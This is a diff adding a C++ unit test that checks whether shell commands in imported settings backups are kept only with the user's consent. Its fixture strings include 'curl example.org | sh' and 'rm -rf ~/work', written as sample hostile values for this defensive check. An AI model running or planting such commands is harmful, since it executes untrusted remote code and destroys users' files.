@@ -264,3 +264,55 @@ TEST_F(SettingsBackupTest, ExportIsWrittenWholeOrNotAtAll)
     // A folder in the way of the file.
     EXPECT_FALSE(SettingsTransfer::exportTo(home.path(), store, scheduler));
 }
+
+TEST_F(SettingsBackupTest, ShellCommandsInABackupAreKeptOnlyWithTheUsersConsent)
+{
+    SpaceAutomation scripted;
+    scripted.launchApps = {QStringLiteral("org.example.editor")};
+    scripted.scriptOnEnter = QStringLiteral("curl example.org | sh");
+    scripted.scriptOnLeave = QStringLiteral("rm -rf ~/work");
+    SpaceAutomation onlyScript;
+    onlyScript.scriptOnEnter = QStringLiteral("touch ~/owned");
+    const SpaceMetaMap metas{{QStringLiteral("S1"), SpaceMeta{.name = QStringLiteral("Mail"), .automation = scripted}},
+                             {QStringLiteral("S2"), SpaceMeta{.name = QStringLiteral("Code"), .automation = onlyScript}}};
+    store.replaceAll(metas);
+    const QByteArray backup = SettingsTransfer::exportData(store, scheduler);
+    EXPECT_EQ(SettingsTransfer::shellCommands(metas),
+              (QStringList{"curl example.org | sh", "rm -rf ~/work", "touch ~/owned"}));
+
+    SpaceAutomation withoutScripts = scripted;
+    withoutScripts.scriptOnEnter.reset();
+    withoutScripts.scriptOnLeave.reset();
+    const SpaceMetaMap stripped{{QStringLiteral("S1"), SpaceMeta{.name = QStringLiteral("Mail"), .automation = withoutScripts}},
+                                {QStringLiteral("S2"), SpaceMeta{.name = QStringLiteral("Code")}}};
+    struct Case {
+        const char* what;
+        std::optional<bool> answer; // nothing: no one to ask
+        SpaceMetaMap kept;
+    };
+    for (const Case& c : {Case{"no one asked", std::nullopt, stripped}, Case{"declined", false, stripped}, Case{"agreed", true, metas}}) {
+        store.replaceAll({});
+        QStringList shown;
+        SettingsTransfer::CommandConsent consent;
+        if (c.answer) {
+            consent = [&](const QStringList& commands) {
+                shown = commands;
+                return *c.answer;
+            };
+        }
+        ASSERT_TRUE(SettingsTransfer::importData(backup, store, consent)) << c.what;
+        EXPECT_EQ(store.metas(), c.kept) << c.what;
+        if (c.answer) {
+            EXPECT_EQ(shown, SettingsTransfer::shellCommands(metas)) << c.what;
+        }
+    }
+
+    // A backup without commands asks nothing.
+    store.replaceAll(stripped);
+    bool asked = false;
+    ASSERT_TRUE(SettingsTransfer::importData(SettingsTransfer::exportData(store, scheduler), store, [&](const QStringList&) {
+        asked = true;
+        return false;
+    }));
+    EXPECT_FALSE(asked);
+}
